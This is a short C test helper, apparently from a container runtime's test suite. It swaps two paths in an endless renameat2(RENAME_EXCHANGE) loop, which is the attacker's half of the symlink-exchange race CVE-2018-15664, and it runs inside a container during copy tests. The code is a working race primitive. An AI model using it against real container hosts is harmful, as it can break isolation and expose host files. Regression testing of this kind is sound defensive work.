/* Swaps two paths with renameat2(RENAME_EXCHANGE) in a loop, forever: the attacker's side of
 * the symlink-exchange race (CVE-2018-15664), run inside a container while the tests copy in
 * and out of it. Static, so it runs in the busybox test image. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char** argv) {
  if (argc != 3) {
    fprintf(stderr, "usage: %s A B\n", argv[0]);
    return 2;
  }
  for (;;)
    if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
      perror("renameat2");
      return 1;
    }
}
